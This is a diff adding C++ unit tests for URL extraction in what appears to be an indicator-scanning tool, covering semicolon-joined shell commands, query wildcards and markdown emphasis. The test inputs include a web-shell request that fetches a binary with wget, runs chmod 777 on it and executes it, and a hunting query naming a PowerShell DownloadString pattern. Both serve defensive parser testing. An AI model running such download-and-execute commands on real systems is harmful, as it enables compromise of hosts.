@@ -463,6 +463,27 @@ TEST(UrlPrecision, ShellCommandAfterASemicolonIsNoPartOfTheUrl) {
               (V{"http://x/a;jsessionid=1?b", "http://x/b;cdn=2", "http://x/c;shop", "http://x/d;chmod.txt"}));
 }
 
+TEST(UrlPrecision, ShellCommandWithAnEncodedSpaceAfterASemicolon) {
+    // A web log's request carrying the one-liner in its query, spaces as
+    // "%20" (before: "http://203.0.113.41/x86;chmod%20777%20x86").
+    EXPECT_EQ(urls("GET /shell.php?c=wget%20http://203.0.113.41/x86;chmod%20777%20x86;./x86 HTTP/1.1"),
+              (V{"http://203.0.113.41/x86"}));
+    // A name that only starts with a command word stays.
+    EXPECT_EQ(urls("http://x/a;chmodx%20y http://x/b;cdn%20"), (V{"http://x/a;chmodx%20y", "http://x/b;cdn%20"}));
+}
+
+TEST(UrlPrecision, AQuerysTrailingWildcardIsNoPartOfTheUrl) {
+    // Hunting queries glob around a URL (before: ".../*" kept the "*").
+    EXPECT_EQ(urls("CommandLine=\"*DownloadString('http://cdn.example.net/*\") OR url=hxxp://evil[.]com/a/**' "
+                   "see http://x.example.org/p*)."),
+              (V{"http://cdn.example.net/", "hxxp://evil[.]com/a/", "http://x.example.org/p"}));
+    // A "*" inside the path stays, and --open keeps a trailing one.
+    EXPECT_EQ(urls("http://x.example.org/a/*.exe"), (V{"http://x.example.org/a/*.exe"}));
+    Options open = options_for({Type::url});
+    open.open_punctuation = true;
+    EXPECT_EQ(values_of(scan_pieces("http://x.example.org/a/* ", open, 0), Type::url), (V{"http://x.example.org/a/*"}));
+}
+
 TEST(UrlPrecision, ACsvRowsFirstFieldEndsBeforeADate) {
     // A feed's row starting with the URL: the next field a date (before:
     // the whole row was the URL).
@@ -494,13 +515,14 @@ TEST(UrlPrecision, MarkdownEmphasisAroundAUrlIsNoPartOfIt) {
                   V{"http://a.example/1"})
             << piece;
     }
-    // Kept: a lone or unpaired mark at the end (a wildcard, a file name), a
-    // mark inside the path, a run after a word character ("a**"), runs of
-    // four or more, and "__" as the scheme separator.
+    // Not emphasis: a lone or unpaired mark at the end, a mark inside the
+    // path, a run after a word character ("a**"), runs of four or more, and
+    // "__" as the scheme separator. An "_" stays; a "*" that ends the URL is
+    // a wildcard and goes (AQuerysTrailingWildcardIsNoPartOfTheUrl).
     EXPECT_EQ(urls("http://a.example/* http://b.example/x_ **http://c.example/d*e** a**http://d.example/f** "
                    "****http://e.example/g**** **http://f.example/h* hxxp__g.example/i__ _dmarc[.]h[.]example"),
-              (V{"http://a.example/*", "http://b.example/x_", "http://c.example/d*e", "http://d.example/f**",
-                 "http://e.example/g****", "http://f.example/h*", "hxxp__g.example/i__", "_dmarc[.]h[.]example"}));
+              (V{"http://a.example/", "http://b.example/x_", "http://c.example/d*e", "http://d.example/f",
+                 "http://e.example/g", "http://f.example/h", "hxxp__g.example/i__", "_dmarc[.]h[.]example"}));
 }
 
 TEST(UrlPrecision, MarkdownTableCellWrittenWithoutSpaces) {
